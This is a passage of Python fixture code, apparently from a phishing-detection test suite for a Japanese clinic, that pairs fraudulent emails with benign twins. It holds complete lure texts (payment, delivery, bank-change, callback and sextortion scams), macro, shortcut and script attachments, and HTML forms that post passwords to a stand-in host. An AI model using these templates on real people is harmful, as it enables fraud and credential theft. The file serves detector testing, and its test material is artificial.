fact("mail.html.outlook-only", "a link that only Outlook shows, or the same link that others get, as a button", ours("ご案内です。", SHOP + "/a", top=MSO % (VML % "https://outlook-muke.test/login")), ours("ご案内です。", SHOP + "/a", top=MSO % (VML % (SHOP + "/a"))))
fact("mail.html.outlook-only", "words for Outlook alone, or a table to keep the width", ours("ご案内です。", top=MSO % "<p>お客様のアカウントは停止されました。下記よりご確認ください。</p>"), ours("ご案内です。", top=MSO % '<table width="600"><tr><td>', end=MSO % "</td></tr></table>"))

# ------------------------------------------------------------------------------------------------- what is wanted: words

QUOTA = "%s 様\n\nメールボックスの容量が上限の99%%に達しました。\n\n本日中に容量を更新されない場合、新しいメールを受信できなくなります。"
for name, addr, subject, link, trait in (
        ("メール管理者", "admin@webmail-kanri.test", "メールボックス容量の警告", "https://webmail-koushin.test/login", "quota"),
        ("hinata-clinic.example サポート", "postmaster@mail-koushin.test", "【hinata-clinic.example】メールの受信が保留されています", "https://yoryo-koushin.test/hinata-clinic.example", "our domain as the support's name")):
    pair("mail.text.lure-mailbox", trait + "; the twin is about the space of a shop's newsletter archive", letter(name, addr, subject, QUOTA % OUR, link, "容量を更新する"),
         ours("メールマガジンのバックナンバーを掲載しました。\n\n容量の都合により、1年前の号は削除いたします。", SHOP + "/mag", label="バックナンバー", subject="メールマガジンのお知らせ"))
pair("mail.text.lure-mailbox", "a stranger's notice of our full mailbox with a link; our own server's without one",
     letter("Mail Delivery System", "mailer@server-jotai.test", "メールボックス容量の警告", QUOTA % OUR, "https://server-login.test/", "容量を更新する"),
     plain("メールボックスの使用量が90%を超えました。\n不要なメールを削除してください。\n\n事務長 佐々木（内線12）\n", name="事務長 佐々木", addr="sasaki@" + s.OWN, subject="メールボックス容量のお知らせ", auth="own"))
pair("mail.text.lure-mailbox", "a password that ends today, in English; a conference whose registration ends today",
     letter("IT Helpdesk", "helpdesk@it-service.test", "Password expiration notice", "The password for info@hinata-clinic.example expires today.\n\nKeep your current password to avoid losing access to your mailbox.", "https://keep-password.test/", "Keep current password"),
     letter("Conference Office", "office@gakkai-unei.example", "Registration closes today", "The early registration for the meeting closes today.\n\nWe look forward to seeing you.", "https://www.gakkai-unei.example/register", "Register"))
pair("mail.text.lure-mailbox", "held mails to release; a held parcel of the wholesaler",
     letter("メールサーバー", "noreply@mail-hold.test", "未配信メール 5通", "サーバーのエラーにより、5通の受信メールが保留されています。\n\nアカウントを確認すると、受信トレイに配信されます。", "https://mail-haishin.test/", "メールを受信する"),
     ours("商品5点の発送を保留しております。\n\n休診日をお知らせください。", subject="発送の保留について"))
pair("mail.text.lure-mailbox", "the web mail moves to a new server, log in; the firm's telephone exchange moves",
     ours("Webメールのサーバー移行に伴い、本日中に下記よりログインしてアカウントを移行してください。移行されない場合、アカウントは無効になります。", "https://webmail-ikou.test/", label="ログイン", subject="Webメール移行のお知らせ"),
     ours("電話交換機の移行に伴い、11月5日の夜間は電話がつながりにくくなります。", subject="電話交換機移行のお知らせ"))

SHARED = "https://seikyu-share.test/view"
for words, twin, subject in (
        ("10月分の電子カルテ保守料の口座振替ができませんでした。\n\n至急、下記より未払い金をお支払いください。", "10月分の電子カルテ保守料は、27日に口座振替させていただきます。\n\nご不明な点はお問い合わせください。", "電子カルテ保守料の口座振替について"),
        ("お見積書の件、代金のお支払いが確認できておりません。\n\n未払いのままですと法的手続きに移行します。下記よりご確認ください。", "ご依頼のお見積書ができました。\n\n有効期限は発行より30日間です。", "御見積書の件"),
        ("年会費が未納です。\n\n会員資格の停止を避けるため、本日中にカードでお支払いください。", "年会費の納入、ありがとうございました。\n\n領収書を発行いたしました。", "年会費について"),
        ("請求書の金額に誤りがあり、返金がございます。\n\n返金先の口座とカード番号をご登録ください。", "請求書の金額に誤りがございました。\n\n訂正した請求書を郵送いたしました。", "請求書の訂正について")):
    pair("mail.text.lure-payment", "pay now on a stranger's page, or a notice with the firm's own page: " + subject, ours(words, SHARED, subject=subject), ours(twin, SHOP + "/info", subject=subject))
pair("mail.text.lure-payment", "the same bill: on a stranger's page behind a hacked shop, or on the firm's", bill("https://flower-shop.example/wp-includes/css/seikyu/", words="10月分のお支払いが確認できておりません。\n\n至急、未払いの請求書をご確認ください。"), bill("https://www.iyaku-online.example/seikyu"))
pair("mail.text.lure-delivery", "a parcel without sender's sign on another's page; the wholesaler's delivery on its own",
     letter("配送センター", "info@haisou-renraku.test", "お荷物のお届けについて", "お客様宛のお荷物をお届けにあがりましたが、宛先不明のため持ち帰りました。\n\n住所を確認してください。", "https://haisou-kakunin.test/", "再配達のお申し込み"),
     ours("ご注文の手袋10箱を本日出荷いたしました。\n\n明日の午前にお届けの予定です。", SHOP + "/track/123", label="出荷状況", subject="出荷のお知らせ"))
pair("mail.text.lure-delivery", "like a text message: a stranger's short link, or the carrier's own page", plain("お荷物のお届けにあがりましたが不在の為持ち帰りました。下記よりご確認ください。\nhttp://nimotsu.duckdns.org\n", name="", addr="info@sms-gateway.test", subject="不在通知"),
     plain("お荷物のお届けにあがりましたが不在の為持ち帰りました。下記よりご確認ください。\nhttps://toi.kuronekoyamato.co.jp/cgi-bin/tneko\n", name="", addr="mail@kuronekoyamato.co.jp", subject="不在通知"))
pair("mail.text.lure-prize", "a benefit for everybody, register the account; a benefit's leaflet of the firm", ours("特別給付金の対象に選ばれました。\n\n50,000円を受け取るには、本日中に口座情報をご登録ください。", "https://kyufu-uketori.test/", label="受け取る"),
     ours("補助金活用セミナーのご案内です。\n\n受講は無料です。", SHOP + "/seminar", label="詳しく見る"))
pair("mail.text.lure-prize", "an answer to be rewarded on a stranger's page; on the association's form", ours("アンケートの抽選に当選されました。\n\nAmazonギフト券1万円を受け取るには、クレジットカード情報の確認が必要です。", "https://tousen-uketori.test/", label="賞品を受け取る"),
     letter("ひなた市医師会", "jimu@marumaru-med.example", "アンケートのお願い", "会員の先生方へ\n\nアンケートにお答えいただいた方に、抽選で図書カードを差し上げます。", FORM, "アンケートに答える"))

pair("mail.text.bank-change", "a new account, or a new address, and no link anywhere", plain(NEWACC % ACCOUNT, subject="振込先口座変更のお願い"), plain(NEWACC % ADDRESS, subject="所在地変更のお知らせ"))
pair("mail.text.bank-change", "the account has changed, or has not", plain("10月分の請求書の件です。\nお振込先が変更になりましたので、今回より新しい口座（みなと銀行 普通 7654321）へお振込ください。旧口座は使用できません。\n" + SIGNED),
     plain("10月分の請求書の件です。\nお振込先は従来どおりで変更ありません。\n" + SIGNED))
pair("mail.text.bank-change", "in English: the account, or the office",
     plain("Dear customer,\n\nOur bank account is under audit. Please send this month's payment to our new bank account below and do not use the old one.\n\nYamate Shokai\n", subject="Change of bank details"),
     plain("Dear customer,\n\nOur office has moved. Please send this month's parcels to our new address below and do not use the old one.\n\nYamate Shokai\n", subject="Change of address"))
pair("mail.text.bank-change", "the director wants money sent to an account today; wants a paper signed today", plain("佐々木さん\n\n本日中に下記の新しい口座へ280万円を振り込んでください。極秘の案件なので、電話はせずメールで返信してください。\n\n院長\n", name="院長", addr="incho.hinata@yahoo.co.jp", subject="至急"),
     plain("佐々木さん\n\n本日中に書類に押印してください。机の上に置いてあります。\n\n院長\n", name="院長", addr="incho@" + s.OWN, subject="至急", auth="own"))
pair("mail.text.bank-change", "wages to another account; wages slip again", plain("お疲れ様です。看護師の中村です。\n給与の振込先口座を変更したいので、今月分から新しい口座へお願いします。口座番号をお送りしてよいですか。\n", name="中村 由美", addr="nakamura.yumi88@gmail.com", subject="給与の件"),
     plain("お疲れ様です。看護師の中村です。\n給与明細を紛失したので、もう一度いただけますか。\n", name="中村 由美", addr="nakamura.yumi88@gmail.com", subject="給与の件"))
pair("mail.text.bank-change", "an answer in a conversation: please use the attached new account; please see the attached receipt",
     with_files(f("請求書.pdf", PDF, "application/pdf"), words="ありがとうございます。\n税務調査のため従来の口座が使えません。お支払いは請求書に記載の新しい口座へお願いいたします。\n", subject="お支払いの件"),
     with_files(f("領収書.pdf", PDF, "application/pdf"), words="ありがとうございます。\nご入金を確認いたしました。領収書をお送りします。\n", subject="お支払いの件"))

RENEW = "このたびはご契約ありがとうございます。\n\nノートン 360 の年間更新料 49,800円が本日ご指定のカードから引き落とされます。\n%s"
pair("mail.text.call-number", "to stop a charge nobody made call this number; the dealer's number stands under its name", plain(RENEW % "お心当たりのない場合や解約・返金をご希望の場合は、24時間以内に 050-0000-1234 までお電話ください。\n", name="更新センター", addr="renewal@billing-dept.test", subject="【自動更新】ご請求 49,800円"),
     plain("ご契約の更新見積書をお送りします。\n更新されるかどうか、11月末までにお知らせください。\n" + SIGNED, subject="更新のお見積り"))
pair("mail.text.call-number", "in English, as callback frauds are; an invoice with a number in the footer", plain("Your subscription has been renewed and 489.99 USD was charged to your account.\n\nIf you did not authorize this charge, call our support team immediately at +1 (888) 555-0142 to cancel and get a refund.\n", name="Billing Team", addr="billing4471@gmail.com", subject="Invoice #GS-88213"),
     plain("Thank you for your order of two blood pressure monitors.\n\nThe goods will be shipped on Monday.\n\nToto Iryokiki, 045-000-0042\n", name="Toto Iryokiki", addr="sales@toto-iryokiki.example", subject="Order 88213"))
pair("mail.text.call-number", "unpaid fees, legal steps, ring today; change of a booking, ring us", plain("ご利用料金の未納があります。本日中にご連絡なき場合は法的手続きに移行いたします。\nお客様サポート 03-0000-5678 まで至急お電話ください。\n", name="お客様サポート", addr="support@ryokin-center.test", subject="未納料金のお知らせ"),
     plain("11月5日 10時のご予約を承りました。\nご予約の変更は 045-000-0099 までお電話ください。\n" + SIGNED, subject="ご予約の確認"))
pair("mail.text.call-number", "the machine is infected, ring; the machine's inspection is due, ring", plain("お使いのパソコンからウイルスが検出されました。ネットワークが遮断される前に、Microsoft サポート 050-0000-9876 へ今すぐお電話ください。\n", name="Windows サポート", addr="alert@pc-anzen.test", subject="ウイルス警告"),
     plain("AEDの定期点検の時期となりました。日程のご相談は 045-000-0042 へお電話ください。\n", name="東都医療機器株式会社", addr="tenken@toto-iryokiki.example", subject="定期点検のご案内"))


def bitcoin(seed):
    """An address with a right check sum that belongs to nobody."""
    raw = b"\0" + s.noise(seed, 20)
    raw += hashlib.sha256(hashlib.sha256(raw).digest()).digest()[:4]
    n, out = int.from_bytes(raw, "big"), ""
    while n:
        n, r = divmod(n, 58)
        out = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"[r] + out
    return "1" + out


THREAT = "あなたのデバイスをハッキングしました。ウェブカメラで録画した恥ずかしい動画を、連絡先の全員に送信します。\n\n48時間以内に1,500ドル相当のビットコインを下記のウォレットに送金すれば、動画は削除します。\n%s\n"
pair("mail.text.extortion", "the threat itself; a warning about it in a bulletin", plain(THREAT % bitcoin("a"), name="", addr="hk@mail-out.test", subject="あなたのアカウントの支払いについて"),
     plain("「動画を連絡先に送信する」とビットコインを要求する脅迫メールが届いたという相談が増えています。\n\n返信や送金をせず、削除してください。\n\n情報セキュリティ通信 編集部\n", name="情報セキュリティ通信", addr="news@security-tsushin.example", subject="脅迫メールにご注意ください"))
pair("mail.text.extortion", "in English; an offer about virtual money's taxes", plain("I know your password. I recorded you through your webcam while you visited adult sites. Send $900 in bitcoin to %s within 48 hours or I send the video to all your contacts.\n" % bitcoin("b"), name="", addr="jk@mail-out.test", subject="Your password"),
     plain("How is bitcoin taxed in Japan? Our seminar explains what small companies need to record.\n\nHinode Seminar Office\n", name="Hinode Seminar", addr="seminar@hinode-seminar.example", subject="Seminar"))
pair("mail.text.extortion", "letters of the threat split by zero-width blanks; the bulletin with them, pasted from a page", plain("\u200b".join(THREAT.split("\n")[0]) + "\n" + "\n".join(THREAT.split("\n")[1:]) % bitcoin("c"), name="", addr="ck@mail-out.test", subject="最終警告"),
     plain("\u200b".join("ランサムウェアの勉強会を開催します。") + "\n参加費は無料です。\n" + SIGNED, subject="勉強会のご案内"))
pair("mail.text.extortion", "stolen records for money; a firm's notice that its records were stolen", plain("貴院の電子カルテから患者データを盗みました。3日以内に身代金 5BTC を支払わない場合、ダークウェブで公開します。\n%s\n" % bitcoin("d"), name="", addr="lk@mail-out.test", subject="患者データについて"),
     plain("弊社サーバーへの不正アクセスにより、一部のお取引先情報が漏えいした可能性があります。\n\n深くお詫び申し上げます。\n" + SIGNED, subject="不正アクセスに関するお詫び"))

HURRY = "\n\n24時間以内にお手続きいただけない場合、アカウントは永久に停止されます。"
fact("mail.text.urgency", "within 24 hours or else, or whenever it suits", ours("ご登録内容をご確認ください。" + HURRY), ours("ご登録内容をご確認ください。\n\nご都合のよいときにお手続きください。"))
fact("mail.text.urgency", "at once or you lose access, or the goods come today", ours("至急ご対応ください。本日中に対応されない場合、ご利用いただけなくなります。"), ours("ご注文の商品は、本日中にお届けの予定です。"))

MEDICAL = (("検査結果.xlsm", s.office("xlsx", ["検査結果"], True), "検査結果.xlsx", s.office("xlsx", ["検査結果"]), "検査結果のご送付", "患者様の検査結果をお送りします。内容をご確認ください。"),
           ("新型コロナワクチン接種のご案内.zip", s.zipped([("案内.js", m.JS)]), "新型コロナワクチン接種のご案内.zip", s.zipped([("案内.pdf", PDF)]), "新型コロナワクチンの追加接種について", "ワクチン接種の実施要領をお送りします。"),
           ("医療費通知のおしらせ.docm", s.office("docx", ["医療費通知"], True), "医療費通知のおしらせ.docx", s.office("docx", ["医療費通知"]), "医療費通知のおしらせ", "医療費通知をお送りします。ご確認ください。"),
           ("紹介状.lnk", s.lnk(), "紹介状.pdf", PDF, "紹介状の送付", "患者様の紹介状（診療情報提供書）をお送りします。"))
for bad, bad_data, good, good_data, subject, words in MEDICAL:
    pair("mail.text.medical-lure", "about patients with something active, or with a paper: " + subject, with_files(f(bad, bad_data), words=words + "\n" + SIGNED, subject=subject), with_files(f(good, good_data), words=words + "\n" + SIGNED, subject=subject))
pair("mail.text.medical-lure", "the records lie in an archive on a stranger's page; a paper on the hospital's", letter("地域連携室", "renkei@byoin-renkei.test", "検査結果のご確認", "ご紹介いただいた患者様の検査結果です。下記よりダウンロードしてください。", "https://kensa-kekka.test/dl/kekka.zip", "検査結果"),
     letter("緑ヶ丘総合病院 地域連携室", "renkei@midorigaoka-hp.example", "検査結果のご確認", "ご紹介いただいた患者様の検査結果です。下記よりご覧ください。", "https://www.midorigaoka-hp.example/renkei/kekka", "検査結果"))

fact("mail.text.unnatural", "simplified characters in Japanese sentences, or Japanese ones", ours("お客様の账户に异常な登录が検出されました。请确认您的信息。ご確認ください。"), ours("お客様の口座に異常なログインが検出されました。ご確認ください。"))
fact("mail.text.unnatural", "characters no Japanese keyboard offers, or the old forms of a surname", ours("ご登錄の情報を更新しない场合、ご利用を终了させていただきます。"), ours("髙橋、齋藤、濵田、渡邉がお伺いいたします。ご登録の情報をご確認ください。"))
fact("mail.text.unnatural", "Chinese forms inside Japanese, or a Chinese colleague's name", ours("配送地址の確認が必要です。请点击以下の链接から更新してください。"), ours("通訳の张伟さんと一緒に伺います。日程をお知らせください。"))
pair("mail.text.unnatural", "a claimed service with forms from another language; its real notice", fake("etc", "info@riyou-center.test", "https://riyou-toroku.test/", words="このメールは登錄型サービスの会员の方にお送りしています。\n\n账户の验证が完了しない场合、解約となります。请すぐに確認してください。"), real("etc"))

ENABLE = "ファイルを開くと保護ビューが表示されます。「コンテンツの有効化」をクリックしてください。\n"
COPY = "ファイルが開けない場合は、次のフォルダにコピーしてから開いてください。\nC:\\Program Files\\Microsoft Office\\root\\Templates\n"
SAVE = "ファイルは共有フォルダに保存して、印刷してお使いください。\n"
XLS = f("請求書.xls", s.ole(), "application/vnd.ms-excel")
pair("mail.text.copy-into-folder", "copy it into the folder Office trusts, or save and print it", with_files(XLS, words=COPY + SIGNED, subject="請求書"), with_files(XLS, words=SAVE + SIGNED, subject="請求書"))
pair("mail.text.copy-into-folder", "enable content, or enter the date", with_files(XLS, words=ENABLE + SIGNED, subject="請求書"), with_files(XLS, words="ファイルを開き、日付の欄に入力してください。\n" + SIGNED, subject="請求書"))
pair("mail.text.copy-into-folder", "the sheet on a page and enable content; the sheet on the firm's page", ours("見積書は下記よりダウンロードし、「編集を有効にする」「コンテンツの有効化」の順にクリックしてください。", "https://dl-mitsumori.test/m.xls", label="見積書"),
     ours("見積書は下記よりダウンロードしてください。", SHOP + "/m.xlsx", label="見積書"))

# ------------------------------------------------------------------------------------------------------- the authorities

for name, addr, good, bad, subject, words in (
        ("ひなた市 健康推進課", "kenko@city.hinata.lg.jp", "https://www.city.hinata.lg.jp/kyufu", "https://kyufukin-shinsei.test/", "給付金の受取口座の登録について", "ひなた市より、医療機関向け給付金の受取口座の登録についてお知らせします。\n\n期日までに口座情報をご登録ください。"),
        ("厚生労働省 医政局", "isei@mhlw.go.jp", "https://www.mhlw.go.jp/stf/chosa", "https://iryo-chosa-kaitou.test/", "医療機関実態調査のお願い", "厚生労働省医政局です。\n\n医療機関実態調査の未回答について、至急ご回答をお願いいたします。"),
        ("国税庁", "info@e-tax.nta.go.jp", "https://www.nta.go.jp/", "https://zeikin-shiharai.test/", "【国税庁】未払い税金のお知らせ", "税務署からのお知らせです。\n\n所得税の未払いがあります。期日までに納付されない場合、差押えの対象となります。"),
        ("マイナポータル", "no-reply@info.myna.go.jp", "https://myna.go.jp/", "https://mynaportal-shinsei.test/", "マイナポイントの受け取り", "デジタル庁よりお知らせします。\n\nマイナポイントの有効期限が近づいています。"),
        ("総務省 統計局", "chosa@soumu.go.jp", "https://www.e-kokusei.go.jp/", "https://kokusei-kaitou.test/", "国勢調査のご回答のお願い", "総務省統計局です。\n\n国勢調査のインターネット回答をお願いいたします。未回答の場合、罰則が適用されることがあります。")):
    pair("mail.link.authority-elsewhere", "where the authority's letter leads: " + subject, letter(name, addr, subject, words, bad, "手続きに進む", auth="none"), letter(name, addr, subject, words, good, "手続きに進む", auth="none"))
fact("mail.link.authority-elsewhere", "the city asks on a stranger's page, or a magazine writes about the city", ours("ひなた市健康推進課です。\n\n下記より回答してください。", "https://kaitou-uketsuke.test/", subject="ひなた市からの調査"),
     letter("医療経営ニュース", "news@keiei-news.example", "今週の記事", "ひなた市が調査を始めました。\n\n詳しくは記事をご覧ください。", "https://www.keiei-news.example/1", "記事を読む"))

# ---------------------------------------------------------------------------------------------------------- attachments

SHEET = "<html><head><meta charset='utf-8'><title>%s</title></head><body><h3>%s</h3>%s</body></html>"
ASK = '<form method="post" action="https://files-view.test/post.php"><input type="email" name="u" value="%s"><input type="password" name="p" placeholder="パスワード"><button>開く</button></form>'
for name, title, good in (
        ("請求書_202610.html", "請求書を表示するにはログインしてください", "<table border=1><tr><td>10月分</td><td>12,000円</td></tr></table>"),
        ("FAX受信通知.htm", "FAXを表示するにはMicrosoft 365にログインしてください", "<p>受信日時 2026/10/20 10:14　3枚</p>"),
        ("給与明細.html", "給与明細：パスワードを入力してください", "<table><tr><td>支給額</td><td>250,000円</td></tr></table>"),
        ("検査結果.html", "検査結果の閲覧", '<p><a href="https://www.yamate-shokai.example/">山手商会</a></p>')):
    pair("mail.attachment.html-login", "a page that asks for a password, or shows a table: " + name, with_files(f(name, (SHEET % (title, title, ASK % OUR)).encode(), "text/html"), subject=title[:8]),
         with_files(f(name, (SHEET % (title[:5], title[:5], good)).encode(), "text/html"), subject=title[:8]))
pair("mail.attachment.html-login", "the password goes to a stranger, or words to the page's own search", with_files(f("一覧.html", (SHEET % ("一覧", "一覧", ASK % "")).encode(), "text/html")),
     with_files(f("一覧.html", (SHEET % ("一覧", "一覧", '<form action="#"><input type="search" name="q"></form>')).encode(), "text/html")))


def forwarded(raw, name="message.eml"):
    return mail(*ITO, "Fw: ご確認", several([text("転送いたします。ご確認ください。\n", "utf-8"), s.nested(raw, name)]), charset="utf-8")


pair("mail.attachment.nested-mail", "a mail inside the mail: a phisher's, or the real one", forwarded(fake("smbc-card", "info@card-tensou.test", "https://tensou-kakunin.test/")), forwarded(real("smbc-card")))
pair("mail.attachment.nested-mail", "its attached page asks for a password, or shows a table", forwarded(with_files(f("請求書.html", (SHEET % ("請求書", "請求書", ASK % OUR)).encode(), "text/html"))), forwarded(with_files(f("請求書.html", (SHEET % ("請求書", "請求書", "<p>12,000円</p>")).encode(), "text/html"))))
fact("mail.attachment.nested-mail", "a whole mail as attachment, or its words quoted", forwarded(plain()), plain("転送いたします。\n\n---- 元のメッセージ ----\n差出人: 伊藤 美咲\n件名: 資料送付の件\n\n" + m.GREETING))


def event(link, words):
    return f("invite.ics", ("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//x//JA\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nUID:7@x.example\r\nDTSTART:20261105T040000Z\r\nDTEND:20261105T050000Z\r\n"
                            "SUMMARY:%s\r\nDESCRIPTION:%s %s\r\nURL:%s\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n" % (words[:12], words, link, link)).encode(), "text/calendar; method=REQUEST")


pair("mail.attachment.calendar-link", "the entry leads to a stranger's login page, or to a meeting", with_files(event("https://kaigi-login.test/m365", "Microsoft 365 のアカウントが停止されます。本日中に確認してください。"), words="予定が追加されました。\n", subject="予定: アカウントの確認"),
     with_files(event("https://us02web.zoom.us/j/81234567890", "地域連携の会（オンライン）"), words="予定をお送りします。\n", subject="予定: 地域連携の会"))
fact("mail.attachment.calendar-link", "an entry with an address, or without", with_files(event("https://www.yamate-kaigi.example/r/1", "打合せ")),
     with_files(f("invite.ics", b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//x//JA\r\nBEGIN:VEVENT\r\nUID:8@x.example\r\nDTSTART:20261105T040000Z\r\nSUMMARY:Meeting\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n", "text/calendar")))
fact("mail.attachment.no-name", "a file without a name, or with one", with_files(f("", PDF, "application/pdf", style="none")), with_files(f("資料.pdf", PDF, "application/pdf")))
fact("mail.attachment.no-name", "data without a name, or a picture the page shows", with_files(f("", s.noise("blob", 900), "application/octet-stream", style="none")),
     with_files(f("logo.png", s.png(16, 16), "image/png", disposition="inline", more=(b"Content-ID: <logo@yamate>",))))

# ----------------------------------------- honest mail of every week that looks like its worst neighbour, each beside that neighbour

BRANDS.update({
    "indeed": ("Indeed", "no-reply@indeed.com", "https://employers.indeed.com/", "【Indeed】求人への応募がありました", "看護師（パート）の求人に1件の応募がありました。\n\n応募者の情報をご確認ください。", "応募者を確認する"),
    "quarantine": ("Microsoft", "quarantine@messaging.microsoft.com", "https://security.microsoft.com/quarantine", "Microsoft 365 セキュリティ: 検疫にメッセージがあります",
                   "info@hinata-clinic.example 宛の2通のメッセージが検疫されました。\n\n30日後に削除されます。確認して解放できます。", "メッセージを確認"),
    "gas": ("東京ガス", "mytokyogas@tokyo-gas.co.jp", "https://members.tokyo-gas.co.jp/", "【東京ガス】ガス料金のお支払い方法について", "いつも東京ガスをご利用いただきありがとうございます。\n\nお支払い方法の登録に問題があるため、料金のお支払いができませんでした。", "お支払い方法を確認"),
    "nenkin": ("日本年金機構", "info@nenkin.go.jp", "https://www.nenkin.go.jp/n_net/", "【ねんきんネット】お知らせ", "ねんきんネットをご利用いただきありがとうございます。\n\n国民年金保険料の未納についてのお知らせがあります。", "ねんきんネットへ"),
    "freee": ("freee株式会社", "no-reply@freee.co.jp", "https://accounts.secure.freee.co.jp/login", "freee人事労務：給与明細が公開されました", "10月分の給与明細が公開されました。\n\nログインしてご確認ください。", "給与明細を確認する"),
    "kyoukai": ("全国健康保険協会", "mail@kyoukaikenpo.or.jp", "https://www.kyoukaikenpo.or.jp/", "健康保険料の口座振替について", "協会けんぽからのお知らせです。\n\n健康保険料の口座振替ができませんでした。納付状況をご確認ください。", "納付状況を確認"),
})
SENDGRID = "https://u4471029.ct.sendgrid.net/ls/click?upn=u001.8fK2aQx7LwZb3dYp"
brand("mail.from.claims-brand", "indeed", "saiyo@kyujin-oubo.test", "https://oubosha-kakunin.test/")
brand("mail.from.claims-brand", "freee", "kyuyo@roumu-annai.test", "https://roumu-login.test/")
brand("mail.text.lure-mailbox", "quarantine", "quarantine@mail-kenneki.test", "https://kenneki-kaiho.test/")
brand("mail.text.lure-payment", "gas", "info@gas-ryokin.test", "https://gas-shiharai.test/")
brand("mail.text.lure-payment", "nenkin", "info@nenkin-annai.test", "https://nenkin-noufu.test/", trait="an authority's unpaid contribution: " + WHO)
brand("mail.from.claims-authority", "kyoukai", "info@kenpo-noufu.test", "https://hokenryo-noufu.test/")
pair("mail.from.claims-brand", "behind a mailing service's opaque counter: a stranger in a card company's name; the card company itself",
     fake("jcb", "info@mail-express.test", SENDGRID, plain_words=None), fake("jcb", None, SENDGRID, plain_words=None, sender="bounces+4471029@em.qa.jcb.co.jp", top='<img src="https://u4471029.ct.sendgrid.net/wf/open?upn=u001.9aB" width="1" height="1" alt="">\n'))
pair("mail.from.claims-brand", "with all signs of a newsletter: in a shop's name, or in the firm's own",
     fake("rakuten", "news@otoku-tsushin.test", "https://otoku-point.test/", more=(b"List-Unsubscribe: <https://otoku-point.test/stop>", b"Precedence: bulk"), sender="bounce@mailer-service.example"),
     ours("秋のカタログができました。ポイント5倍の対象商品も掲載しています。", TRACK + "https%3A%2F%2Fwww.yamate-shokai.example%2Fcatalog", more=(b"List-Unsubscribe: <https://www.yamate-shokai.example/stop>", b"Precedence: bulk"), sender="bounce@mailer-service.example"))
pair("mail.from.claims-brand", "no proof of the sender and an unencrypted page: in the power company's name, or a small firm's own, as many still write",
     fake("tepco", "info@denki-annai.test", "http://denki-kensin.test/", auth="none"), letter("株式会社丸山設備", "info@example.co.jp", "空調点検のお知らせ", "平素は格別のお引き立てを賜り厚く御礼申し上げます。\n\n空調設備の点検の日程をお知らせいたします。", "http://www.example.co.jp/tenken.html", "点検の日程", auth="none"))
pair("mail.from.claims-brand", "warns of mails in the card company's name: in that name with a link elsewhere, or a bulletin with its own",
     fake("smbc-card", "info@card-chui.test", "https://card-chui-kakunin.test/", subject="三井住友カードを装った不審なメールにご注意ください", words="三井住友カードを装った不審なメールが増えています。\n\nお客様の安全のため、ご利用内容の確認をお願いいたします。"),
     fake("smbc-card", "news@security-tsushin.example", "https://www.security-tsushin.example/26", name="情報セキュリティ通信", subject="三井住友カードを装った不審なメールにご注意ください", words="三井住友カードを装った不審なメールが増えています。\n\nリンクを開かず、公式アプリから確認してください。\n\n情報セキュリティ通信 編集部", label="記事を読む"))
pair("mail.from.claims-brand", "only the signature names the company; the company's own letter signed alike",
     fake("jcb", "info@okyakusama.test", "https://okyakusama-madoguchi.test/", name="お客様窓口", subject="ご利用確認のお願い", end="<p>株式会社ジェーシービー<br>東京都港区南青山5-1-22</p>"),
     fake("jcb", None, None, name="お客様窓口", subject="ご利用確認のお願い", end="<p>株式会社ジェーシービー<br>東京都港区南青山5-1-22</p>"))


def words_only(key, addr, link, charset="utf-8"):
    name, real_addr, real_link, subject, words, label = BRANDS[key]
    return mail(name, addr or real_addr, subject, text("%s\n\n▼%s\n%s\n" % (words, label, link or real_link), charset), charset=charset, mailer="")


pair("mail.from.claims-brand", "plain text alone: a stranger's page; the card company's", words_only("jcb", "info@policeofficer.test", "http://policeofficer.xxwy.test"), words_only("jcb", None, None))
pair("mail.text.lure-payment", "plain text in ISO-2022-JP: a stranger's page; the card company's", words_only("rakuten-card", "info@shiharai-mado.test", "http://enavi-login.test/", "iso-2022-jp"), words_only("rakuten-card", None, None, "iso-2022-jp"))
pair("mail.text.lure-account", "plain text in Shift_JIS: a stranger's page; the railway's", words_only("ekinet", "info@taikai-annai.test", "http://taikai-kakunin.test/", "shift_jis"), words_only("ekinet", None, None, "shift_jis"))

LURE = "アカウントの利用を停止しました。本人確認をお済ませください。"
for trait, bad in (("by zero-width blanks", "\u200b".join(LURE)), ("by empty tags", "<b></b>".join(LURE)), ("by comments", "<!--x-->".join(LURE)), ("by soft hyphens", "&shy;".join(LURE)),
                   ("as numbers of characters", "".join("&#%d;" % ord(c) for c in LURE)), ("by spans", "".join("<span>%s</span>" % c for c in LURE))):
    pair("mail.text.lure-account", "the lure cut or written " + trait + "; the shop's letter with places to break lines, as its template has",
         fake("amazon", "info@tsuhan-%s.test" % s.token(trait, 4), "https://kaiin-%s.test/" % s.token(trait, 4), words=bad, plain_words=None), real("amazon", words="<wbr>".join(LURE), plain_words=None))
LOOKS = "ア力ウントの利用を停止しました。夲人確認をお済ませくださぃ。"
pair("mail.text.lure-account", "the katakana ka is the kanji for power; the shop's letter in its own letters", fake("amazon", "info@tsuhan-moji.test", "https://tsuhan-moji.test/", words=LOOKS, plain_words=None), real("amazon", words=LURE, plain_words=None))

FEE = "研修会の参加費 8,800円のお支払いが確認できておりません。\n\n期日までにお支払いください。"
pair("mail.text.lure-payment", "the same words about a seminar's fee: on a page anybody can publish, or on the organiser's", letter("東都医療研修センター", "kenshu@toto-kenshu.example", "研修会参加費のお支払いについて", FEE, "https://kenshu-shiharai-77.pages.dev/", "参加費を支払う"),
     letter("東都医療研修センター", "kenshu@toto-kenshu.example", "研修会参加費のお支払いについて", FEE, "https://www.toto-kenshu.example/mypage", "参加費を支払う"))
pair("mail.link.program", "an applicant's papers: an archive that holds who knows what, or a page of the agency", letter("求人応募窓口", "oubo@kyujin-site.example", "【求人】看護師への応募", "看護師の求人に応募がありました。\n\n履歴書と職務経歴書をご確認ください。", "https://dl.kyujin-site.example/rirekisho.exe", "履歴書を開く"),
     letter("求人応募窓口", "oubo@kyujin-site.example", "【求人】看護師への応募", "看護師の求人に応募がありました。\n\n履歴書と職務経歴書をご確認ください。", "https://www.kyujin-site.example/oubo/1021", "履歴書を開く"))
PAYPAL = "請求書 #8841 を受け取りました。\n\n山手商会から 12,000円の請求書が届いています。%s"
pair("mail.text.call-number", "the payment service's real letter with a stranger's note: call to cancel; without a note",
